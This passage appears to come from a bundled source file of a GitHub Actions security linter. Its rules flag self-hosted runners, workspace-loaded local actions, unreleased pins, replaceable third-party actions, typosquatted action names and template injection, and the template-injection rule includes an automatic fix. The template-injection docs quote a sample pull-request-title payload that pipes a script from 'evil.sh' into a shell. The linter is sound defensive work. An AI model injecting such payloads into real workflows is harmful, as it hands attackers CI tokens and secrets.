    why: "Self-hosted runners are not wiped between jobs: code from one run can leave a backdoor for the next and reach whatever the machine can reach. The Shai-Hulud 2 worm (2025) registered victims' machines as self-hosted runners and drove them with a `discussion` workflow; Praetorian's and John Stawinski's 2024 research took over PyTorch's release infrastructure through fork pull requests running on its self-hosted runners.",
    fix: "Use GitHub-hosted runners for anything an outsider can trigger; require approval for fork pull requests from all outside contributors; run self-hosted runners as ephemeral (`--ephemeral`, one job per VM) in a runner group restricted to specific private repositories and workflows."
  },
  check({ file, report: report2 }) {
    const workflow = file.workflow;
    if (!workflow) return;
    const outsider = workflow.triggers.map((trigger) => trigger.name).filter((name) => OUTSIDER.includes(name));
    for (const job of workflow.jobs) {
      const runsOn = job.runsOn;
      if (!runsOn || !runsOn.value) continue;
      const hit = selfHosted(runsOn.value, job.strategy.child("matrix"), workflow.doc);
      if (!hit) continue;
      const exposed = outsider.length > 0;
      const forkCode = outsider.includes("pull_request") || outsider.includes("pull_request_target");
      report2({
        span: hit.span,
        message: exposed ? `job \`${job.id}\` runs on ${hit.what} and \`${outsider[0]}\` lets ${triggerInfo(outsider[0])?.firedBy ?? "outsiders"} start it: a non-ephemeral runner can be backdoored` : `job \`${job.id}\` runs on ${hit.what}; make sure the runner is ephemeral and restricted to this repository`,
        severity: exposed ? forkCode ? "high" : "medium" : "medium",
        confidence: hit.certain ? "high" : "low",
        persona: exposed && hit.certain ? "regular" : "auditor"
      });
    }
  }
};
function selfHosted(value, matrix, doc) {
  const single = spannedString(value);
  if (single) {
    if (/^self-hosted$/i.test(single.value.trim())) return { span: single.span, what: "a self-hosted runner", certain: true };
    const expression = /\$\{\{\s*matrix\.([\w-]+)\s*\}\}/.exec(single.value);
    if (expression && matrixValues(matrix, expression[1], doc).some((labels2) => labels2.some((label) => /^self-hosted$/i.test(label))))
      return { span: single.span, what: "a self-hosted runner (from the matrix)", certain: true };
    return null;
  }
  const seq2 = asSeq(value);
  if (seq2) {
    for (const item of seqItems(seq2, doc)) {
      const label = spannedString(item);
      if (label && /^self-hosted$/i.test(label.value.trim())) return { span: label.span, what: "a self-hosted runner", certain: true };
    }
    return null;
  }
  const map2 = new MapView(asMap(value), doc);
  const group = map2.string("group");
  if (group)
    return { span: group.span, what: `runner group \`${group.value}\` (self-hosted, or larger GitHub-hosted runners)`, certain: false };
  const labels = map2.get("labels");
  if (labels?.value) return selfHosted(labels.value, matrix, doc);
  return null;
}
var MAX_COMBINATIONS = 256;
function labelsOf(node, doc) {
  const text = scalarText(node);
  if (text !== null) return [text.trim()];
  return seqItems(asSeq(node), doc).map((item) => scalarText(item)?.trim()).filter((label) => label !== void 0);
}
function canonical(node, doc, depth = 0) {
  const text = scalarText(node);
  if (text !== null) return `s:${text.trim()}`;
  if (depth > 4) return "?";
  const seq2 = asSeq(node);
  if (seq2)
    return `[${seqItems(seq2, doc).map((item) => canonical(item, doc, depth + 1)).join(",")}]`;
  const map2 = new MapView(asMap(node), doc);
  return `{${map2.entries.map((entry) => `${entry.key}=${canonical(entry.value, doc, depth + 1)}`).join(",")}}`;
}
function matrixValues(matrix, key, doc) {
  const axes = matrix.entries.filter((entry) => entry.key !== "include" && entry.key !== "exclude");
  const values = [];
  if (axes.some((axis) => axis.key === key)) {
    const excludes = seqItems(asSeq(matrix.get("exclude")?.value ?? null), doc).map(
      (row) => new MapView(asMap(row), doc).entries.map((entry) => ({ key: entry.key, value: canonical(entry.value, doc) }))
    );
    let combinations = [/* @__PURE__ */ new Map()];
    for (const axis of axes) {
      if (!asSeq(axis.value)) continue;
      const items = seqItems(asSeq(axis.value), doc);
      const next = [];
      for (const combination of combinations)
        for (const item of items) {
          if (next.length >= MAX_COMBINATIONS) break;
          next.push(new Map(combination).set(axis.key, item));
        }
      combinations = next;
    }
    for (const combination of combinations) {
      const excluded = excludes.some(
        (row) => row.length > 0 && row.every(({ key: name, value: value2 }) => combination.has(name) && canonical(combination.get(name), doc) === value2)
      );
      const value = combination.get(key);
      if (!excluded && value) values.push(labelsOf(value, doc));
    }
  }
  for (const row of seqItems(asSeq(matrix.get("include")?.value ?? null), doc)) {
    const value = new MapView(asMap(row), doc).get(key)?.value;
    if (value) values.push(labelsOf(value, doc));
  }
  return values;
}

// server/src/rules/self-repository.ts
function checkoutKind(step) {
  const uses = step.string("uses")?.value.toLowerCase() ?? "";
  if (!uses.startsWith("actions/checkout@") && uses !== "actions/checkout") return null;
  const inputs = step.with;
  const repository = inputs.string("repository")?.value.trim();
  if (repository && !/^\$\{\{\s*github\.repository\s*\}\}$/.test(repository)) return "other";
  if (inputs.has("path")) return "other";
  if (inputs.has("ref")) return "moved-ref";
  return "same";
}
var selfRepository = {
  id: "self-repository",
  title: "Local action loaded from the workspace instead of the workflow's own commit",
  kinds: ["workflow"],
  severity: "low",
  confidence: "high",
  persona: "regular",
  online: false,
  docs: {
    summary: "`uses: ./path` runs whatever is at that path in the runner's workspace when the step starts; `uses: $/path` runs the action from the commit the workflow itself came from.",
    why: "In the 2026 Trivy compromise (hackerbot-claw), a `pull_request_target` workflow checked out the pull request and then ran `uses: ./.github/actions/setup-go`: the \"local\" action was the attacker's code, running with the organisation's token. `./` also cannot satisfy GitHub's \"require full-length SHA\" policy. `$/` (GA July 2026) names the workflow's own repository and commit.",
    fix: "Write `uses: $/path`. The quick fix is marked safe when the job checks out only its own repository at the default ref, and unsafe when an earlier checkout names a `ref:` (then `./` runs that ref's code and `$/` runs the workflow's commit — usually what you want, but review it)."
  },
  check({ file, report: report2 }) {
    const workflow = file.workflow;
    if (!workflow) return;
    for (const site of file.uses) {
      const reference = site.reference;
      if (reference.kind !== "local" || reference.isReusableWorkflow || !site.job || !site.step || !site.exact) continue;
      const raw = site.value.trim();
      if (!raw.startsWith("./") || raw.startsWith("./..") || raw === "./") continue;
      const before = site.job.steps.slice(0, site.step.index).map(checkoutKind).filter((kind) => kind !== null);
      if (before.includes("other")) continue;
      const safe = before.length > 0 && before.every((kind) => kind === "same");
      const leading = site.value.length - site.value.trimStart().length;
      const span = { start: site.valueStart + leading, end: site.valueStart + leading + raw.length };
      const replacement = `$/${raw.slice(2)}`;
      report2({
        span: { start: span.start, end: span.start + 2 },
        message: before.includes("moved-ref") ? `\`${raw}\` runs the action from the ref checked out earlier in job \`${site.job.id}\`, not from this workflow's commit: use \`${replacement}\`` : `\`${raw}\` loads the action from the workspace; \`${replacement}\` loads it from this workflow's own commit and satisfies SHA-pinning policies`,
        fixes: [
          {
            title: `Use \`${replacement}\``,
            isPreferred: true,
            safety: safe ? "safe" : "unsafe",
            edits: [{ span: { start: span.start, end: span.start + 2 }, newText: "$/" }]
          }
        ]
      });
    }
  }
};

// server/src/rules/stale-action-refs.ts
function checkStaleActionRefs({ file, online, report: report2 }) {
  if (!online.available) return;
  const snapshot = online.value;
  for (const { site, uses, refs } of resolvedUses(file.uses, snapshot, "sha-pins")) {
    if (refs.tags.length === 0 || tagsAt(refs, uses.ref).length > 0) continue;
    report2({
      span: refOrValueSpan(site, uses),
      message: `No tag of ${uses.repository} points at ${uses.ref.slice(0, 12)}…: \`${usesTarget(uses)}\` runs unreleased code`
    });
  }
}
var staleActionRefs = {
  id: "stale-action-refs",
  title: "Pinned commit is not a release",
  kinds: ["workflow", "action"],
  severity: "low",
  confidence: "high",
  persona: "pedantic",
  online: true,
  docs: {
    summary: "A `uses:` pinned to a commit that no tag points at (online check).",
    why: "Commits between releases have not been through the maintainers' release process, and tools that keep pins fresh (Dependabot, Renovate) cannot tell which version they are. Unreleased commits are also how impostor and compromised commits usually look.",
    fix: "Pin to the commit of a release tag with its `# vX.Y.Z` comment."
  },
  check: checkStaleActionRefs
};

// server/src/rules/superfluous-actions.ts
var SUPERFLUOUS = /* @__PURE__ */ new Map([
  ["actions/create-release", { replacement: "`gh release create`", persona: "regular" }],
  ["actions/upload-release-asset", { replacement: "`gh release upload`", persona: "regular" }],
  ["softprops/action-gh-release", { replacement: "`gh release create` / `gh release upload`", persona: "pedantic" }],
  ["ncipollo/release-action", { replacement: "`gh release create`", persona: "pedantic" }],
  ["svenstaro/upload-release-action", { replacement: "`gh release upload`", persona: "pedantic" }],
  ["andstor/file-existence-action", { replacement: "`test -e <path>` in a `run:` step", persona: "regular" }],
  ["dcarbone/install-jq-action", { replacement: "the preinstalled `jq`", persona: "regular" }],
  ["sergeysova/jq-action", { replacement: "the preinstalled `jq`", persona: "regular" }],
  ["mikefarah/yq", { replacement: "the preinstalled `yq`", persona: "pedantic" }],
  ["juliangruber/read-file-action", { replacement: "`cat` into `$GITHUB_OUTPUT`", persona: "regular" }],
  ["stefanzweifel/git-auto-commit-action", { replacement: "`git commit` and `git push`", persona: "pedantic" }],
  ["endbug/add-and-commit", { replacement: "`git add`, `git commit` and `git push`", persona: "pedantic" }],
  ["ad-m/github-push-action", { replacement: "`git push`", persona: "pedantic" }],
  ["actions-ecosystem/action-add-labels", { replacement: "`gh issue edit --add-label` / `gh pr edit --add-label`", persona: "pedantic" }],
  ["peter-evans/repository-dispatch", { replacement: "`gh api repos/{owner}/{repo}/dispatches`", persona: "pedantic" }],
  ["benc-uk/workflow-dispatch", { replacement: "`gh workflow run`", persona: "pedantic" }],
  [
    "actions-ecosystem/action-remove-labels",
    { replacement: "`gh issue edit --remove-label` / `gh pr edit --remove-label`", persona: "pedantic" }
  ],
  // A composite of `rustup toolchain install` and `rustup default`; rustup is on every GitHub-hosted image.
  ["dtolnay/rust-toolchain", { replacement: RUSTUP, persona: "pedantic" }],
  [
    "peter-evans/create-or-update-comment",
    { replacement: "`gh issue comment` / `gh pr comment` (`--edit-last` to update)", persona: "pedantic" }
  ],
  ["peter-evans/find-comment", { replacement: "`gh api repos/{owner}/{repo}/issues/<n>/comments --jq '…'`", persona: "pedantic" }],
  ["peter-evans/create-pull-request", { replacement: "`git switch -c`, `git commit`, `git push` and `gh pr create`", persona: "pedantic" }],
  ["addnab/docker-run-action", { replacement: "`docker run <image> sh -c …` in a `run:` step", persona: "regular" }],
  ["dacbd/create-issue-action", { replacement: "`gh issue create --title … --body …`", persona: "pedantic" }],
  ["elgohr/github-release-action", { replacement: "`gh release create <tag> --title …`", persona: "pedantic" }]
]);
function RUSTUP(ref2) {
  const toolchain = ref2 && /^(stable|beta|nightly|1\.\d+(\.\d+)?)$/.test(ref2) ? ref2 : "<toolchain>";
  return `\`rustup toolchain install ${toolchain} --profile minimal\` and \`rustup default ${toolchain}\``;
}
var superfluousActions = {
  id: "superfluous-actions",
  title: "Action that a preinstalled tool replaces",
  kinds: ["workflow", "action"],
  severity: "informational",
  confidence: "high",
  persona: "regular",
  online: false,
  docs: {
    summary: "A `uses:` pulls in third-party code for something `gh`, `git`, `jq`, `yq` or the shell on GitHub-hosted runners already do.",
    why: "Every action is code from another owner running with your job's token and secrets; each one is a place where a moved tag or hijacked account (tj-actions/changed-files and reviewdog in 2025) reaches you. A one-line `gh` or `git` command has no such supply chain.",
    fix: "Replace the step with the command the message names (with `GH_TOKEN: ${{ github.token }}` in `env:` for `gh`)."
  },
  check({ file, report: report2 }) {
    for (const site of file.uses) {
      const reference = site.reference;
      if (reference.kind !== "remote" || reference.subpath !== null) continue;
      const entry = SUPERFLUOUS.get(reference.repository.toLowerCase());
      if (!entry) continue;
      const end = reference.ref === null ? site.value.length : reference.refStart - 1;
      const span = site.exact ? { start: site.valueStart, end: site.valueStart + end } : site.entry.valueSpan;
      report2({
        span,
        message: `\`${usesTarget(reference)}\` can be replaced by ${typeof entry.replacement === "string" ? entry.replacement : entry.replacement(reference.ref)}, with no third-party code in the job`,
        persona: entry.persona
      });
    }
  }
};

// server/src/knowledge/code-sinks.ts
var OWN_SINKS = [
  { action: "actions/github-script", inputs: ["script"], language: "javascript" },
  { action: "cardinalby/js-eval-action", inputs: ["expression"], language: "javascript" },
  { action: "azure/cli", inputs: ["inlinescript"], language: "shell" },
  { action: "azure/powershell", inputs: ["inlinescript"], language: "pwsh" },
  { action: "amadevus/pwsh-script", inputs: ["script"], language: "pwsh" },
  { action: "jannekem/run-python-script-action", inputs: ["script"], language: "python" },
  { action: "mikefarah/yq", inputs: ["cmd"], language: "yq" },
  { action: "garygrossgarten/github-action-ssh", inputs: ["command"], language: "shell" },
  { action: "cloudflare/wrangler-action", inputs: ["command", "precommands", "postcommands"], language: "shell" },
  { action: "nick-fields/retry", inputs: ["command", "on_retry_command"], language: "shell" },
  { action: "aws-actions/aws-cli", inputs: ["command"], language: "shell" },
  { action: "docker://", inputs: ["entrypoint", "args"], language: "other" },
  // tibdex/backport@v2.0.4 action.yml: `title_template` / `body_template` are "Lodash template[s]" for the
  // backport PR; lodash's `_.template` runs `<% %>` and `${ }` in them as JavaScript in the action's process.
  { action: "tibdex/backport", inputs: ["title_template", "body_template"], language: "other" }
];
var CODE_SINKS = [
  ...OWN_SINKS,
  ...SCRIPT_INPUTS.map((entry) => ({ action: entry.action, inputs: entry.inputs, language: "shell" }))
];
function codeSinkFor(owner, repo, path) {
  return findAction(CODE_SINKS, owner, repo, path);
}

// server/src/fixes/verify.ts
var OPTIONS = { keepSourceTokens: false, uniqueKeys: true, prettyErrors: false, strict: true };
function errorCodes(text) {
  try {
    return parseDocument(text, OPTIONS).errors.map((error) => error.code);
  } catch {
    return null;
  }
}
function editsKeepYamlValid(text, region, edits) {
  if (edits.length === 0) return true;
  let start = Math.min(region.start, ...edits.map((edit) => edit.span.start));
  let end = Math.max(region.end, ...edits.map((edit) => edit.span.end));
  start = text.lastIndexOf("\n", start - 1) + 1;
  if (end === 0 || text[end - 1] !== "\n") {
    const lineEnd = text.indexOf("\n", end);
    end = lineEnd === -1 ? text.length : lineEnd + 1;
  }
  const fragment = text.slice(start, end);
  const shifted = edits.map((edit) => ({ span: { start: edit.span.start - start, end: edit.span.end - start }, newText: edit.newText }));
  let edited;
  try {
    edited = applyEdits(fragment, shifted);
  } catch {
    return false;
  }
  const before = errorCodes(fragment);
  const after = errorCodes(edited);
  if (!before || !after) return false;
  if (after.length === 0) return true;
  return after.length <= before.length && after.every((code) => before.includes(code));
}

// server/src/rules/template-injection.ts
function stepShell(scope, step) {
  const own = step.shell?.value ?? scope.job?.child("defaults").child("run").string("shell")?.value ?? scope.file.workflow?.child("defaults").child("run").string("shell")?.value;
  if (own) return own.trim().split(/\s+/)[0].toLowerCase();
  const runsOn = scalarText(scope.job?.runsOn?.value ?? null) ?? "";
  return /windows/i.test(runsOn) ? "pwsh" : "bash";
}
function runLanguage(scope, step) {
  const shell = stepShell(scope, step);
  return shell === "pwsh" || shell === "powershell" ? "pwsh" : shell === "cmd" ? "cmd" : shell === "python" ? "python" : "bash";
}
function sinkOf(site, scope, base2) {
  const step = scope.step;
  if (!step) return null;
  const path = site.path;
  if (path.length === base2 + 1 && path[base2] === "run") {
    const entry = step.run;
    if (!entry) return null;
    return { kind: "run", language: null, label: "this `run:` script", entry };
  }
  if (path.length === base2 + 2 && path[base2] === "with" && typeof path[base2 + 1] === "string") {
    const uses = scalarText(step.uses?.value ?? null);
    if (!uses) return null;
    const reference = parseUses(uses);
    const input2 = String(path[base2 + 1]);
    const entry = step.with.get(input2);
    if (!entry) return null;
    if (reference.kind === "docker")
      return ["entrypoint", "args"].includes(input2.toLowerCase()) ? { kind: "input", language: "other", label: `\`${input2}\` of a container step`, entry } : null;
    if (reference.kind !== "remote") return null;
    const sink = codeSinkFor(reference.owner, reference.repo, reference.subpath);
    if (!sink || !sink.inputs.includes(input2.toLowerCase())) return null;
    return { kind: "input", language: sink.language, label: `\`${input2}\` of ${reference.repository}, which runs it as code`, entry };
  }
  return null;
}
var templateInjection = {
  id: "template-injection",
  title: "Untrusted text expanded into code",
  kinds: ["workflow", "action"],
  severity: "high",
  confidence: "high",
  persona: "regular",
  online: false,
  docs: {
    summary: "A `${{ }}` expression whose value someone else chooses is pasted into a `run:` script or into an input that an action runs as code, before the shell or interpreter reads it.",
    why: "Expressions are substituted into the script text before it runs, so a pull request title such as `\"; curl evil.sh | sh; #` becomes a command. Ultralytics (2024) put `github.head_ref` into a composite action's `run:` under `pull_request_target`; Grafana (2025) put a branch name into `actions/github-script`; Nx (2025) put a pull request title into a bash heredoc and lost its npm token; elementary-data (2026) expanded an `issue_comment` body.",
    fix: 'Pass the value through an environment variable: add `NAME: ${{ <expression> }}` to the step\'s `env:` and use `"$NAME"` (bash), `$env:NAME` (PowerShell), `%NAME%` (cmd) or `process.env.NAME` (github-script). The quick fix does this for single-context expressions.'
  },
  check({ file, report: report2 }) {
    const kind = file.workflow ? "workflow" : "action";
    for (const site of file.expressions) {
      if (!site.occurrence.terminated || !site.occurrence.parsed.ast) continue;
      const path = site.path;
      const base2 = stepKeysStart(path, kind);
      if (base2 === -1 || !(path.length === base2 + 1 && path[base2] === "run") && !(path.length === base2 + 2 && path[base2] === "with"))
        continue;
      const scope = scopeOf(file, path);
      const sink = sinkOf(site, scope, base2);
      if (!sink) continue;
      const leaves = assessSite(site, scope);
      if (leaves.length === 0) continue;
      const single = singleContext(site);
      for (const leaf of leaves) {
        const { verdict: verdict2 } = leaf;
        const step = scope.step;
        const canMove = single !== null && leaves.length === 1 && step !== null && step !== void 0;
        const fixes = () => {
          const fix = canMove ? moveToEnv(
            file,
            site,
            sink,
            sink.language ?? runLanguage(scope, step),
            step,
            normalizeContextPath(single.path) === normalizeContextPath(leaf.path) ? single.path : null
          ) : null;
          return fix ? [fix] : [];
        };
        report2({
          span: { start: leaf.start, end: leaf.end },
          message: `\`${leaf.path}\` is expanded into ${sink.label}: ${verdict2.reason}. Pass it through \`env:\` instead`,
          severity: verdict2.severity,
          confidence: verdict2.confidence,
          persona: verdict2.persona,
          fixes
        });
      }
    }
    reportAliasedSinks(file, report2);
  }
};
function reportAliasedSinks(file, report2) {
  const steps = [];
  if (file.workflow) for (const job of file.workflow.jobs) for (const step of job.steps) steps.push({ step, job });
  if (file.action) for (const step of file.action.steps) steps.push({ step, job: null });
  let sites = null;
  const kind = file.workflow ? "workflow" : "action";
  for (const { step, job } of steps) {
    const candidates = [];
    if (step.run) candidates.push({ entry: step.run, label: "this `run:` script" });
    else if (step.with.entries.some((entry) => isAlias(entry.pair.value))) {
      const reference = parseUses(scalarText(step.uses?.value ?? null) ?? "");
      const sink = reference.kind === "remote" ? codeSinkFor(reference.owner, reference.repo, reference.subpath) : void 0;
      if (sink && reference.kind === "remote") {
        for (const entry of step.with.entries)
          if (sink.inputs.includes(entry.key.toLowerCase()))
            candidates.push({ entry, label: `\`${entry.key}\` of ${reference.repository}, which runs it as code` });
      }
    }
    for (const { entry, label } of candidates) {
      const alias = entry.pair.value;
      if (!isAlias(alias) || !entry.value || !alias.range) continue;
      if (!sites) {
        sites = /* @__PURE__ */ new Map();
        for (const site of file.expressions) {
          const list = sites.get(site.scalar);
          if (list) list.push(site);
          else sites.set(site.scalar, [site]);
        }
      }
      const anchored = sites.get(entry.value);
      if (!anchored) continue;
      const aliasSpan = { start: alias.range[0], end: alias.range[1] };
      const aliasText = file.text.slice(aliasSpan.start, aliasSpan.end);
      const scope = { ...scopeOf(file, []), job, step };
      for (const site of anchored) {
        if (!site.occurrence.terminated || !site.occurrence.parsed.ast) continue;
        const base2 = stepKeysStart(site.path, kind);
        if (base2 !== -1 && sinkOf(site, scopeOf(file, site.path), base2)) continue;
        for (const leaf of assessSite(site, scope)) {
          const { verdict: verdict2 } = leaf;
          report2({
            span: { start: leaf.start, end: leaf.end },
            message: `\`${leaf.path}\` is expanded into ${label} through the alias \`${aliasText}\` (line ${file.lines.lineAt(aliasSpan.start) + 1}): ${verdict2.reason}. Pass it through the running step's \`env:\` instead`,
            severity: verdict2.severity,
            confidence: verdict2.confidence,
            persona: verdict2.persona,
            related: [{ span: aliasSpan, message: "runs this text" }]
          });
        }
      }
    }
  }
}
function envNameFor(path) {
  const trimmed = path.replace(/^github\.event\./i, "").replace(/^github\./i, "");
  const name = trimmed.replace(/\*/g, "ALL").replace(/[^A-Za-z0-9]+/g, "_").replace(/^_+|_+$/g, "").toUpperCase();
  return /^[A-Z_]/.test(name) ? name : `V_${name}`;
}
function quoteState(line) {
  let state = "none";
  for (let i = 0; i < line.length; i++) {
    const c = line[i];
    if (c === "\\" && state !== "single") {
      i++;
      continue;
    }
    if (state === "none") {
      if (c === "'") state = "single";
      else if (c === '"') state = "double";
      else if (c === "`") state = "backtick";
    } else if (state === "single" && c === "'" || state === "double" && c === '"' || state === "backtick" && c === "`") {
      state = "none";
    }
  }
  return state;
}
function moveToEnv(file, site, sink, language, step, path) {
  if (!path) return null;
  const text = file.text;
  const occurrence = site.occurrence;
  const scalarType = site.scalar.type;
  if (scalarType !== "BLOCK_LITERAL" && scalarType !== "PLAIN" && scalarType !== "QUOTE_SINGLE") return null;
  if (asMap(step.node)?.flow) return null;
  if (sink.kind === "input" && scalarType === "PLAIN" && asMap(step.get("with")?.value)?.flow) return null;
  const scalarRange = site.scalar.range;
  if (!scalarRange) return null;
  const expressionText = envValueExpression(text.slice(occurrence.start, occurrence.end));
  if (!expressionText) return null;
  const key = normalizeContextPath(path);
  const runnerVar = RUNNER_ENV[key] ?? null;
  const name = runnerVar ?? uniqueName(step, envNameFor(path), expressionText);
  if (!name) return null;
  const lineStart = file.lines.lineStarts[file.lines.lineAt(occurrence.start)];
  const scalarStart = scalarRange[0] + (scalarType === "QUOTE_SINGLE" ? 1 : 0);
  const before = text.slice(Math.max(lineStart, scalarStart), occurrence.start);
  const state = quoteState(before.replace(/^\s*run:\s*/, ""));
  let replacement = null;
  let span = { start: occurrence.start, end: occurrence.end };
  switch (language) {
    case "bash": {
      const script = scalarText(site.scalar) ?? "";
      const inQuotedHeredoc = parseShell(script).commands.some(
        (command) => command.heredocs.some((h) => h.quoted && h.body.includes(occurrence.text))
      );
      if (inQuotedHeredoc) return null;
      const inHeredoc = parseShell(script).commands.some(
        (command) => command.heredocs.some((h) => h.body.includes(`\${{${occurrence.text}}}`))
      );
      if (scalarType === "QUOTE_SINGLE" && state !== "none") return null;
      replacement = inHeredoc || state === "double" ? `\${${name}}` : state === "single" ? `'"\${${name}}"'` : `"\${${name}}"`;
      break;
    }
    case "pwsh":
      if (state === "single") return null;
      replacement = `$env:${name}`;
      break;
    case "cmd":
      replacement = `%${name}%`;
      break;
    case "javascript": {
      const open = text[occurrence.start - 1];
      const close = text[occurrence.end];
      if ((open === "'" || open === '"' || open === "`") && open === close && state !== "none") {
        replacement = `process.env.${name}`;
        span = { start: occurrence.start - 1, end: occurrence.end + 1 };
      } else if (state === "backtick") replacement = `\${process.env.${name}}`;
      else if (state === "single" || state === "double") {
        const q = state === "single" ? "'" : '"';
        replacement = `${q} + process.env.${name} + ${q}`;
      } else replacement = `process.env.${name}`;
      break;
    }
    default:
      return null;
  }
  if (scalarType === "QUOTE_SINGLE" && replacement.includes("'")) return null;
  let edit = { span, newText: replacement };
  if (scalarType === "PLAIN") {
    const [start, end] = scalarRange;
    const rewritten = text.slice(start, span.start) + replacement + text.slice(span.end, end);
    if (!plainScalarReadsAsWritten(rewritten)) edit = { span: { start, end }, newText: `'${rewritten.replace(/'/g, "''")}'` };
  }
  const edits = [edit];
  if (!runnerVar && !hasEnvEntry(step, name)) {
    const insert = envInsertion(file, step, name, expressionText);
    if (!insert) return null;
    edits.push(insert);
  }
  const stepRange = step.node?.range;
  if (!stepRange || !editsKeepYamlValid(text, { start: stepRange[0], end: stepRange[1] }, edits)) return null;
  return {
    title: runnerVar ? `Use the runner's \`${runnerVar}\` variable instead of expanding \`${path}\`` : `Move \`${path}\` into \`env: ${name}\``,
    isPreferred: sink.kind === "run",
    safety: "unsafe",
    edits
  };
}
function envValueExpression(source) {
  if (!/[\r\n]/.test(source)) return source;
  if (/['"]/.test(source)) return null;
  return source.replace(/\s+/g, " ");
}
function plainScalarReadsAsWritten(source) {
  if (/^[-?:,[\]{}#&*!|>'"%@`]/.test(source)) return false;
  return !/:(\s|$)|\s#/.test(source);
}
function hasEnvEntry(step, name) {
  return step.env.entries.some((entry) => entry.key === name);
}
function uniqueName(step, base2, expressionText) {
  const entries = step.env.entries;
  for (let i = 1; i < 50; i++) {
    const name = i === 1 ? base2 : `${base2}_${i}`;
    const existing = entries.find((entry) => entry.key === name);
    if (!existing) return name;
    if ((scalarText(existing.value) ?? "").trim() === expressionText) return name;
  }
  return null;
}
function envInsertion(file, step, name, expressionText) {
  const lines = file.lines;
  const eol = lines.eol;
  const value = expressionText.includes("'") || expressionText.includes("#") ? `"${expressionText.replace(/\\/g, "\\\\").replace(/"/g, '\\"')}"` : expressionText;
  const lineAfter = (offset) => {
    const line = lines.lineAt(Math.max(0, offset - 1));
    return line + 1 < lines.lineCount ? lines.lineStarts[line + 1] : null;
  };
  const envEntry = step.get("env");
  if (envEntry) {
    const map2 = asMap(envEntry.value);
    if (!map2 || map2.flow || step.env.entries.length === 0) return null;
    if (isAlias(envEntry.pair.value) || map2.anchor) return null;
    const entries2 = step.env.entries;
    const first2 = entries2[0];
    const last2 = entries2[entries2.length - 1];
    const column2 = first2.keySpan.start - lines.lineStarts[lines.lineAt(first2.keySpan.start)];
    const at2 = lineAfter(Math.max(last2.valueSpan.end, last2.keySpan.end));
    const textLine = `${" ".repeat(column2)}${name}: ${value}`;
    if (at2 === null)
      return {
        span: { start: file.text.length, end: file.text.length },
        newText: `${file.text.endsWith("\n") ? "" : eol}${textLine}${eol}`
      };
    return { span: { start: at2, end: at2 }, newText: `${textLine}${eol}` };
  }
  const entries = step.entries;
  if (entries.length === 0) return null;
  const first = entries[0];
  const last = entries.reduce((a, b) => Math.max(b.valueSpan.end, b.keySpan.end) > Math.max(a.valueSpan.end, a.keySpan.end) ? b : a);
  const column = first.keySpan.start - lines.lineStarts[lines.lineAt(first.keySpan.start)];
  const pad = " ".repeat(column);
  const block = `${pad}env:${eol}${pad}  ${name}: ${value}${eol}`;
  const at = lineAfter(Math.max(last.valueSpan.end, last.keySpan.end));
  if (at === null)
    return { span: { start: file.text.length, end: file.text.length }, newText: `${file.text.endsWith("\n") ? "" : eol}${block}` };
  return { span: { start: at, end: at }, newText: block };
}

// server/src/knowledge/popular-actions.ts
var POPULAR_ACTIONS = [
  "actions/checkout",
  "actions/cache",
  "actions/upload-artifact",
  "actions/download-artifact",
  "actions/setup-python",
  "actions/setup-node",
  "actions/setup-go",
  "actions/setup-java",
  "actions/setup-dotnet",
  "actions/github-script",
  "actions/create-github-app-token",
  "actions/attest-build-provenance",
  "actions/labeler",
  "actions/stale",
  "actions/deploy-pages",
  "actions/upload-pages-artifact",
  "actions/configure-pages",
  "actions/dependency-review-action",
  "github/codeql-action",
  "docker/setup-buildx-action",
  "docker/setup-qemu-action",
  "docker/login-action",
  "docker/build-push-action",
  "docker/metadata-action",
  "astral-sh/setup-uv",
  "swatinem/rust-cache",
  "dtolnay/rust-toolchain",
  "taiki-e/install-action",
  "pnpm/action-setup",
  "pypa/gh-action-pypi-publish",
  "softprops/action-gh-release",
  "peter-evans/create-pull-request",
  "peter-evans/create-or-update-comment",
  "dorny/paths-filter",
  "tj-actions/changed-files",
  "codecov/codecov-action",
  "golangci/golangci-lint-action",
  "goreleaser/goreleaser-action",
  "google-github-actions/auth",
  "google-github-actions/setup-gcloud",
  "aws-actions/configure-aws-credentials",
  "azure/login",
  "hashicorp/setup-terraform",
  "ossf/scorecard-action",
  "sigstore/cosign-installer",
  "ruby/setup-ruby",
  "subosito/flutter-action",
  "gradle/actions",
  "jdx/mise-action",
  "pre-commit/action",
  "aquasecurity/trivy-action",
  "slackapi/slack-github-action",
  "cachix/install-nix-action",
  "denoland/setup-deno",
  "oven-sh/setup-bun",
  "pyo3/maturin-action",
  "zizmorcore/zizmor-action",
  "step-security/harden-runner",
  "JamesIves/github-pages-deploy-action".toLowerCase(),
  "peaceiris/actions-gh-pages",
  "mikefarah/yq",
  "crazy-max/ghaction-import-gpg"
];

// server/src/rules/typosquat-uses.ts
var POPULAR = new Set(POPULAR_ACTIONS);
var targets = /* @__PURE__ */ new Map();
function typosquatTarget(repository) {
  let target = targets.get(repository);
  if (target === void 0) {
    if (targets.size >= 1e4) targets.clear();
    target = computeTyposquatTarget(repository);
    targets.set(repository, target);
  }
  return target;
}
function computeTyposquatTarget(repository) {
  const lower2 = repository.toLowerCase();
  if (POPULAR.has(lower2)) return null;
  const owner = lower2.split("/")[0];
  for (const popular of POPULAR_ACTIONS) {
    if (popular.split("/")[0] === owner) continue;
    if (editDistance(lower2, popular, { limit: 1 }) <= 1) return popular;
  }
  return null;
}
var typosquatUses = {
  id: "typosquat-uses",
  title: "Action name one typo away from a popular action",
  kinds: ["workflow", "action"],
  severity: "high",
  confidence: "low",
  persona: "regular",
  online: false,
  docs: {
    summary: "A `uses:` names a repository that differs by one character from a widely used action but belongs to another owner.",
    why: "Typosquatting is an old package-registry attack that works on actions too: researchers registered owners such as `actons` and `actlons` and found workflows running their code. A one-letter slip in `uses:` hands the job, its token and its secrets to a stranger.",
    fix: "Check the spelling against the action's Marketplace page and correct the owner or repository name. If the similar name is intended, suppress with `# warden: ignore[typosquat-uses]`."
  },
  check({ file, report: report2 }) {
    for (const site of file.uses) {
      const reference = site.reference;
      if (reference.kind !== "remote") continue;
      const target = typosquatTarget(reference.repository);
      if (!target) continue;
      const span = site.exact ? { start: site.valueStart, end: site.valueStart + reference.owner.length + 1 + reference.repo.length } : site.entry.valueSpan;
      report2({
        span,
        message: `\`${reference.repository}\` is one character away from the popular action \`${target}\` but belongs to another owner: check that this is not a typo`
      });
    }
  }
};

// server/src/rules/undocumented-permissions.ts
var undocumentedPermissions = {
  id: "undocumented-permissions",
  title: "Job permission without a comment saying why",
  kinds: ["workflow"],
  severity: "low",
  confidence: "high",
  persona: "pedantic",
  online: false,
  docs: {
